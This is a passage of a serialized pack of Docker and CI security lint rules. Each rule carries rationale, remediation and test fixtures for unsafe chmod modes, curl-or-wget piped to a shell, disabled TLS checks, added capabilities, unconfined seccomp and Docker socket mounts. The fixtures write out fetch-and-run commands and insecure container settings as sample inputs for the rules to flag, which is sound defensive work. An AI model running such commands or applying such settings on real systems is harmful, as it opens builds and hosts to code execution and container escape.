/app/data\\nUSER 10001\\n```\\n\\nTo strip setuid and setgid bits from a base image:\\n`RUN find / -xdev -perm /6000 -type f -exec chmod a-s {} + || true`.","references":[{"framework":"cis-docker","id":"1.6.0:4.8"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"insecureMode":"^0?[0-7]{2}[2367]$|^[2-7][0-7]{3}$|(^|,)[ug]*[oa][ugoa]*[+=][rxXst]*w|[+=][rwxXt]*s"},"paramSchemas":{"insecureMode":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Octal modes that let everyone write (the last digit has the write bit, without the sticky bit that makes /tmp-style directories safe) or that set setuid/setgid; symbolic `o+w`, `a+w`, `a=rwx`, `u+s`, `g+s`."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/data && chmod -R 777 /app/data\\nRUN chmod u+s /usr/local/bin/helper\\nRUN [\\"chmod\\", \\"4755\\", \\"/usr/local/bin/backup\\"]\\nRUN chmod a+rw /etc/app.conf\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49},{"line":3,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nRUN mkdir -p /app/tmp && chmod 1777 /app/tmp \\\\\\n && chmod 755 /usr/local/bin/entrypoint.sh \\\\\\n && chmod go-w /etc/app.conf \\\\\\n && chmod a-s /usr/bin/newgrp \\\\\\n && chmod u+x,g+x /usr/local/bin/run\\n","expect":[]}],"source":"policies/docker/command-chmod-insecure.yaml"},{"id":"command-download-piped-to-shell","pack":"docker","title":"Downloaded script piped straight into a shell","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"enum":{"$param":"downloaders"}}}},"then":{"properties":{"pipedTo":{"not":{"enum":{"$param":"shells"}}}}}},{"if":{"properties":{"name":{"enum":["sh","bash","dash","ash","zsh","ksh","mksh","eval"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"substitutedDownload"}}}}}}}]},"message":"`{{subject.name}}` runs a script fetched from the network without checking it, so whoever controls that URL (or the connection) runs code here, with this build\'s or job\'s access. Download to a file, verify its checksum or signature, then run it, or install the tool from a package with a pinned version.","rationale":"`curl \u2026 | sh` executes whatever the server returns at that moment: a compromised or hijacked host, a changed install script or a truncated download runs with the privileges of the build (root, in most Dockerfiles) or of the CI job (with its token and secrets). Nothing in the repository records what ran, so the result cannot be reproduced or audited. The CIS Docker Benchmark (4.11) asks that only verified packages be installed, and the OWASP cheat sheet (rule 9) treats unverified downloads as a supply-chain risk.","remediation":"Fetch a pinned version to a file, check it against a published digest, then run it:\\n\\n```dockerfile\\nARG INSTALLER_SHA256=<sha256 of install.sh at v1.2.0>\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"${INSTALLER_SHA256}  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh && rm /tmp/install.sh\\n```\\n\\nBetter still, install the tool from the distribution\'s package manager or copy it from a\\npinned image (`COPY --from=ghcr.io/example/tool:1.2.0@sha256:\u2026 /tool /usr/local/bin/`).","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"owasp-docker","id":"RULE #9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{"downloaders":["curl","wget"],"shells":["sh","bash","dash","ash","zsh","ksh","mksh","python","python3","perl","ruby","node","php"],"substitutedDownload":"^\\\\$\\\\((curl|wget)\\\\s"},"paramSchemas":{"downloaders":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Programs that download a URL (command names, as the command subject gives them)."},"shells":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Interpreters that run what they read on standard input (or in `-c \\"$(\u2026)\\"`)."},"substitutedDownload":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An argument that runs a download\'s output: `sh -c \\"$(curl \u2026)\\"`, `eval \\"$(wget -O- \u2026)\\"`."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN wget -qO- https://get.example.com/install.sh | sudo sh\\nRUN sh -c \\"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\\"\\n","expect":[{"line":3,"column":2,"endLine":3,"endColumn":62},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN curl -fsSLo /tmp/install.sh https://example.com/v1.2.0/install.sh \\\\\\n && echo \\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  /tmp/install.sh\\" | sha256sum -c - \\\\\\n && sh /tmp/install.sh\\nRUN curl -fsSL https://example.com/data.json | jq .version\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b /usr/local/bin\\n          golangci-lint run\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  lint:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL https://api.github.com/repos/example/app/releases/latest | jq -r .tag_name\\n","expect":[]}],"source":"policies/docker/command-download-piped-to-shell.yaml"},{"id":"command-tls-verification-disabled","pack":"docker","title":"Command turns off TLS certificate or package signature checks","severity":"medium","subject":"command","schema":{"allOf":[{"if":{"properties":{"name":{"const":"curl"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--insecure$|-[a-zA-Z]*k)"}}}}}},{"if":{"properties":{"name":{"const":"wget"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--no-check-certificate"}}}}}},{"if":{"properties":{"name":{"enum":["apt-get","apt","aptitude"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(allow-unauthenticated|allow-insecure-repositories|force-yes)$|Verify-(Peer|Host)=(false|0)$|AllowUnauthenticated=(true|1)$"}}}}}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf","zypper"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--(nogpgcheck|no-gpg-checks)$|^--setopt=(sslverify|gpgcheck|repo_gpgcheck)=(0|false|False)$"}}}}}},{"if":{"properties":{"name":{"const":"rpm"}}},"then":{"properties":{"args":{"items":{"not":{"enum":["--nosignature","--nodigest"]}}}}}},{"if":{"properties":{"name":{"const":"apk"}}},"then":{"properties":{"args":{"items":{"not":{"const":"--allow-untrusted"}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3","python","python3","uv"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^--trusted-host(=|$)"}}}}}},{"if":{"properties":{"name":{"enum":["npm","yarn","pnpm"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(--)?strict-ssl(=false)?$"}}}}}},{"if":{"properties":{"name":{"const":"git"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^http\\\\..*[sS][sS][lL][vV][eE][rR][iI][fF][yY](=(false|0|no|off))?$"}}}}}}]},"message":"`{{subject.name}}` is told to skip certificate or signature checks (`{{value}}`), so anyone who can intercept or spoof the server can hand it different code or packages. Remove the option and fix the trust problem instead: install the CA certificate, or import the repository\'s signing key.","rationale":"TLS certificates and package signatures are what tie a download to its publisher. Options such as `curl -k`, `wget --no-check-certificate`, `apt-get --allow-unauthenticated`, `--nogpgcheck`, `apk --allow-untrusted`, `pip --trusted-host`, npm\'s `strict-ssl false` and git\'s `http.sslVerify=false` accept whatever answers, which turns a network position (a proxy, a rogue Wi-Fi, a poisoned DNS entry, a compromised mirror) into code execution in the image or the CI job. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Keep verification on and give the tool what it needs to verify:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates \\\\\\n && curl -fsSLo /tmp/tool.tgz https://tools.example.com/tool-1.2.0.tgz\\n```\\n\\nFor a third-party package repository, import its signing key (`signed-by=` in the apt source)\\ninstead of allowing unauthenticated packages.","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSLk https://tools.example.com/tool.tgz -o /tmp/tool.tgz \\\\\\n && wget --no-check-certificate -q https://example.com/a.tgz\\nRUN apt-get install -y --allow-unauthenticated internal-agent\\nRUN pip install --trusted-host pypi.example.com internal-lib==1.0\\nRUN git -c http.sslVerify=false clone https://git.example.com/app.git\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":68},{"line":3,"column":2},{"line":4,"column":1},{"line":5,"column":1},{"line":6,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache --allow-untrusted /tmp/pkgs/*.apk\\nRUN npm config set strict-ssl false\\n","expect":[{"line":2,"column":1},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN curl -fsSL -o /tmp/tool.tgz https://tools.example.com/tool.tgz \\\\\\n && git -c http.sslVerify=true clone https://github.com/example/app.git\\nRUN apt-get install -y --no-install-recommends ca-certificates\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN sort -k 2 /etc/passwd\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          curl --insecure -fsSL https://staging.example.com/healthz\\n          git -c http.sslVerify=true fetch origin\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":68}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  deploy:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -fsSL --cacert ./ca.pem https://staging.example.com/healthz\\n","expect":[]}],"source":"policies/docker/command-tls-verification-disabled.yaml"},{"id":"container-capabilities-not-dropped","pack":"docker","title":"Container keeps Docker\'s default capabilities (no cap_drop ALL)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"cap_drop":{"not":{"items":{"not":{"const":"ALL"}}}}}},"message":"{{name}} keeps Docker\'s default capabilities (CHOWN, DAC_OVERRIDE, FOWNER, SETUID, NET_RAW, \u2026), which a compromised process can use to change file ownership, switch users or craft raw packets. Add `cap_drop: [ALL]` and add back with `cap_add` only what the service needs.","rationale":"Docker grants every container fourteen capabilities by default, chosen for compatibility, not for any particular workload. Most services need none or one of them (`NET_BIND_SERVICE` for a port below 1024). `NET_RAW` alone allows ARP and DNS spoofing on the container network, and `DAC_OVERRIDE`, `FOWNER`, `SETUID` and `SETGID` make a compromise inside the container easier to turn into root. The CIS Docker Benchmark and the OWASP cheat sheet ask to drop every capability and add back only the required ones. Informational by default: images that switch users or change file ownership at start-up need a few capabilities added back, which takes testing.","remediation":"Drop all capabilities and add back only what the service needs:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nShared hardening can live in an `x-` block merged into every service with `<<: *hardening`.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    cap_drop: [NET_RAW]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  cap_drop: [all]\\nservices:\\n  api:\\n    <<: *hardening\\n    image: ghcr.io/example/api:1.4.2\\n  web:\\n    image: nginx:1.27\\n    cap_drop:\\n      - ALL\\n    cap_add:\\n      - NET_BIND_SERVICE\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-capabilities-not-dropped.yaml"},{"id":"container-cgroup-host","pack":"docker","title":"Container uses the host\'s cgroup namespace or a custom cgroup parent","severity":"medium","subject":"container","schema":{"properties":{"cgroup":{"not":{"const":"host"}},"cgroup_parent":false}},"message":"{{name}} sets `{{key}}`, which takes it out of the cgroup Docker manages for it, so its resource limits and accounting depend on a cgroup outside Docker\'s control (or, with `cgroup: host`, it sees the host\'s whole cgroup tree). Remove the setting unless the host\'s cgroup layout was designed for it.","rationale":"Docker places each container in its own cgroup under the daemon\'s parent, which is where its memory, CPU and PID limits are enforced. `cgroup_parent` moves it under another cgroup whose limits this file does not show, and `cgroup: host` shares the host\'s cgroup namespace, exposing every host cgroup to the container (and, with a writable cgroupfs, a known escape path). The CIS Docker Benchmark (5.25) asks that cgroup usage be confirmed and that the default be kept.","remediation":"Remove `cgroup_parent` and `cgroup: host` (or `--cgroup-parent`, `--cgroupns host`) and let\\nDocker manage the container\'s cgroup; set limits with `mem_limit`, `cpus` and `pids_limit`:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n    mem_limit: 512m\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.25"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#cgroup"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  monitor:\\n    image: ghcr.io/example/monitor:1.0.0\\n    cgroup: host\\n  batch:\\n    image: ghcr.io/example/batch:1.0.0\\n    cgroup_parent: /batch.slice\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":17},{"line":7,"column":5}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    cgroup: private\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --cgroupns=host ghcr.io/example/monitor:1.0.0\\n          docker run --rm --cgroup-parent /ci.slice alpine:3.20 true\\n","expect":[{"line":7,"column":11},{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      monitor:\\n        image: ghcr.io/example/monitor:1.0.0\\n        options: --cgroupns host\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cgroupns private\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/docker/container-cgroup-host.yaml"},{"id":"container-confinement-disabled","pack":"docker","title":"Container runs without seccomp, AppArmor or SELinux confinement","severity":"high","subject":"container","schema":{"properties":{"security_opt":{"items":{"not":{"pattern":{"$param":"disablingOptions"}}}}}},"message":"{{name}} switches off a kernel security layer with `{{value}}`, so an exploit inside it meets none of the system-call or mandatory-access-control filtering Docker applies by default. Remove the option; if the default profile blocks something the workload needs, write a custom profile that allows just that.","rationale":"Docker confines every container with a seccomp filter that blocks dangerous system calls, an AppArmor profile (`docker-default`) or an SELinux label, and masks sensitive `/proc` and `/sys` paths. These layers are what stop many kernel exploits and container escapes even when the process runs as root. `seccomp=unconfined`, `apparmor=unconfined`, `label=disable` and `systempaths=unconfined` each remove one of them for the whole container. The CIS Docker Benchmark and the OWASP cheat sheet ask that the default profiles stay on.","remediation":"Remove the option. If a system call or file access is genuinely needed, start from Docker\'s\\ndefault profile and allow only that:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - seccomp=./seccomp/app.json   # the default profile plus the one syscall needed\\n      - no-new-privileges=true\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.22"},{"framework":"cis-docker","id":"1.6.0:5.2"},{"framework":"cis-docker","id":"1.6.0:5.3"},{"framework":"owasp-docker","id":"RULE #6"},{"framework":"url","url":"https://docs.docker.com/engine/security/seccomp/"},{"framework":"url","url":"https://docs.docker.com/engine/security/apparmor/"}],"params":{"disablingOptions":"^(seccomp|apparmor|systempaths)=\\\\s*unconfined$|^label=\\\\s*disable$"},"paramSchemas":{"disablingOptions":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Security options that switch seccomp, AppArmor or SELinux confinement off. Matched against `security_opt` entries, which the container subject normalizes to `key=value` (`seccomp:unconfined` becomes `seccomp=unconfined`)."}},"tests":[{"file":"compose.yaml","content":"services:\\n  chrome:\\n    image: browserless/chrome:1.61\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp:unconfined\\n      - \\"apparmor=unconfined\\"\\n      - label:disable\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":27},{"line":7,"column":9},{"line":8,"column":9}]},{"file":"compose.yaml","content":"x-unconfined: &unconfined\\n  security_opt: [seccomp=unconfined]\\nservices:\\n  builder:\\n    <<: *unconfined\\n    image: moby/buildkit:v0.16.0\\n","expect":[{"line":2,"column":18}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    security_opt:\\n      - no-new-privileges:true\\n      - seccomp=./seccomp/app.json\\n      - apparmor=docker-default\\n      - label=type:svirt_apache_t\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  browser-tests:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: mcr.microsoft.com/playwright:v1.48.0-noble\\n      options: --security-opt seccomp=unconfined --ipc private\\n    steps:\\n      - run: npx playwright test\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --security-opt apparmor:unconfined \\\\\\n            --security-opt label=disable moby/buildkit:v0.16.0 --version\\n","expect":[{"line":7,"column":11},{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --security-opt no-new-privileges --security-opt seccomp=${{ inputs.profile }}\\n    steps:\\n      - run: docker run --rm --security-opt seccomp=/etc/docker/seccomp.json alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-confinement-disabled.yaml"},{"id":"container-dangerous-capability","pack":"docker","title":"Container adds a dangerous Linux capability","severity":"high","subject":"container","schema":{"properties":{"cap_add":{"items":{"not":{"enum":{"$param":"dangerousCapabilities"}}}}}},"message":"{{name}} adds the {{value}} capability, which lets a compromised process reach past the container into the host kernel. Remove it, or replace it with the narrow capability the workload actually needs after `cap_drop: [ALL]`.","rationale":"Docker starts containers with a short list of capabilities and withholds the ones that act on the whole machine. `ALL` and `SYS_ADMIN` come close to privileged mode (mounting filesystems, escaping through cgroups); `SYS_MODULE` loads kernel code; `SYS_PTRACE` reads and alters other processes; `DAC_READ_SEARCH` opens any host file by handle (the \\"shocker\\" escape); `SYS_RAWIO`, `SYS_BOOT` and `SYS_TIME` touch devices, reboots and the host clock; `NET_ADMIN` reconfigures interfaces, routes and firewall rules; `BPF` and `PERFMON` load and observe kernel programs; `MAC_ADMIN`/`MAC_OVERRIDE` change or bypass AppArmor and SELinux; `SYSLOG` and `LINUX_IMMUTABLE` affect host logs and file flags. The CIS Docker Benchmark and the OWASP cheat sheet both ask to add only the capabilities a workload needs; the list is the `dangerousCapabilities` parameter.","remediation":"Drop every capability and add back only the specific one the process needs:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nFor a workflow\'s `options:` or a `docker run`, write `--cap-drop ALL --cap-add NET_BIND_SERVICE`.\\nA VPN or network tool that truly needs `NET_ADMIN` belongs on a dedicated host, not next to\\napplication services.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"},{"framework":"url","url":"https://docs.docker.com/engine/security/#linux-kernel-capabilities"}],"params":{"dangerousCapabilities":["ALL","SYS_ADMIN","NET_ADMIN","SYS_MODULE","SYS_PTRACE","SYS_RAWIO","SYS_BOOT","SYS_TIME","DAC_READ_SEARCH","BPF","PERFMON","MAC_ADMIN","MAC_OVERRIDE","SYSLOG","LINUX_IMMUTABLE"]},"paramSchemas":{"dangerousCapabilities":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Capabilities that act on the whole host. Upper case, without the CAP_ prefix: the container subject normalizes `cap_sys_admin`, `CAP_SYS_ADMIN` and `SYS_ADMIN` to `SYS_ADMIN`."}},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    cap_add:\\n      - NET_BIND_SERVICE\\n      - CAP_sys_admin\\n      - net_admin\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":22},{"line":7,"column":9}]},{"file":"compose.yaml","content":"x-caps: &caps\\n  cap_add: [ALL]\\nservices:\\n  tool:\\n    <<: *caps\\n    image: alpine:3.20\\n","expect":[{"line":2,"column":13}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: golang:1.23\\n      options: --cap-add=SYS_PTRACE --cap-add CAP_NET_RAW\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --cap-add SYS_ADMIN --device /dev/fuse\\n    steps:\\n      - run: go test ./...\\n","expect":[{"line":7,"column":7},{"line":11,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: |\\n          docker run --rm --cap-add ALL alpine:3.20 true\\n          docker run --rm --cap-drop ALL --cap-add NET_BIND_SERVICE nginx:1.27\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":57}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        options: --cap-drop ALL --cap-add NET_BIND_SERVICE --cap-add ${{ matrix.cap }}\\n    steps:\\n      - run: docker run --rm --cap-add CHOWN alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-dangerous-capability.yaml"},{"id":"container-default-bridge-network","pack":"docker","title":"Container uses Docker\'s default bridge network","severity":"low","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"bridge"}}}},"message":"{{name}} is attached to the default `bridge` network (docker0), where every container can reach every other container started the same way, and names do not resolve. Remove `network_mode: bridge` so Compose puts it on the project\'s own network, or attach it to a user-defined network.","rationale":"The default bridge network is shared by every container started without a network: they can all talk to each other on any port, with no isolation between unrelated applications, and the network offers no DNS between containers (which encourages the deprecated `--link`). User-defined networks isolate groups of containers and resolve names. The CIS Docker Benchmark (5.30) asks that docker0 not be used; the OWASP cheat sheet (rule 5) asks to isolate containers with networks.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n```\\n\\nFor `docker run`, create a network once (`docker network create app`) and pass `--network app`.","references":[{"framework":"cis-docker","id":"1.6.0:5.30"},{"framework":"owasp-docker","id":"RULE #5"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/bridge/#differences-between-user-defined-bridges-and-the-default-bridge"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    network_mode: bridge\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --network bridge\\n    steps:\\n      - run: |\\n          docker run -d --net=bridge nginx:1.27\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker network create e2e\\n          docker run -d --network e2e nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-default-bridge-network.yaml"},{"id":"container-docker-socket","pack":"docker","title":"Docker socket mounted into a container","severity":"critical","subject":"container","schema":{"properties":{"use_api_socket":{"not":{"const":true}},"volumes":{"items":{"not":{"required":["source"],"properties":{"source":{"pattern":{"$param":"socketPaths"}}}}}}}},"message":"{{name}} mounts the Docker socket: any process in it can start a privileged container and so owns the host, and `:ro` does not prevent that. Remove the mount; if the service must talk to Docker, put an authorizing proxy in front of a TLS-protected daemon.","rationale":"The Docker daemon runs as root and its socket is its whole API. A container that can reach the socket can create a new container that is privileged and mounts the host\'s root filesystem, which is root on the host. Mounting the socket read-only changes nothing: API calls are writes to the socket whatever the mount mode. Compose\'s `use_api_socket: true` grants the same access.","remediation":"Remove the socket mount. If the service genuinely manages containers (a CI runner, a reverse\\nproxy that reads labels), run it against a socket proxy that allows only the API calls it needs,\\nor a rootless daemon, and never in a service that handles untrusted input.\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: traefik:v3.1\\n    # volumes:\\n    #   - /var/run/docker.sock:/var/run/docker.sock   # removed\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.32"},{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/#docker-daemon-attack-surface"}],"params":{"socketPaths":"^(/var)?/run/docker\\\\.sock/?$"},"paramSchemas":{"socketPaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is the Docker daemon socket."}},"tests":[{"file":"compose.yaml","content":"services:\\n  traefik:\\n    image: traefik:v3.1\\n    volumes:\\n      - ./traefik.yml:/etc/traefik/traefik.yml:ro\\n      - /var/run/docker.sock:/var/run/docker.sock:ro\\n","expect":[{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: portainer/agent:2.21\\n    volumes:\\n      - type: bind\\n        source: /run/docker.sock\\n        target: /var/run/docker.sock\\n","expect":[{"line":5,"column":9}]},{"file":"compose.yaml","content":"services:\\n  builder:\\n    image: docker:27-cli\\n    use_api_socket: true\\n","expect":[{"line":4,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./html:/usr/share/nginx/html:ro\\n      - cache:/var/cache/nginx\\nvolumes:\\n  cache: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: docker:27-cli\\n      options: -v /var/run/docker.sock:/var/run/docker.sock\\n    steps:\\n      - run: docker ps\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n    steps:\\n      - run: npm ci\\n","expect":[]}],"source":"policies/docker/container-docker-socket.yaml"},{"id":"container-host-device","pack":"docker","title":"Host device exposed to a container","severity":"medium","subject":"container","schema":{"properties":{"devices":{"items":false}}},"message":"{{name}} is given the host device `{{value}}`, so processes in it talk to that hardware or kernel interface directly, outside the container\'s isolation. Remove the device unless the service truly drives it, and then pass only that one device with the narrowest permissions (`:r` or `:rw`, not `:rwm`).","rationale":"A device node is a direct line into a kernel driver. Block devices expose the host\'s disks (mount `/dev/sda1` and read or change the host\'s files), `/dev/mem` and `/dev/kmsg` expose kernel memory and logs, and even a FUSE or GPU device widens the kernel attack surface that a compromised process can reach. The CIS Docker Benchmark (5.18) asks that host devices not be exposed to containers directly, and that when one must be, its permissions be limited.","remediation":"Remove the device. If the workload genuinely needs one (a GPU, a serial adapter), pass exactly\\nthat device, read-only where possible, and keep the service on a dedicated host:\\n\\n```yaml\\nservices:\\n  reader:\\n    image: ghcr.io/example/serial-reader:1.0.0\\n    devices:\\n      - \\"/dev/ttyUSB0:/dev/ttyUSB0:r\\"   # this one device, no mknod\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.18"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#device"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: ghcr.io/example/backup:3.1.0\\n    devices:\\n      - /dev/sda:/dev/xvda:rwm\\n      - source: /dev/fuse\\n        target: /dev/fuse\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":31},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  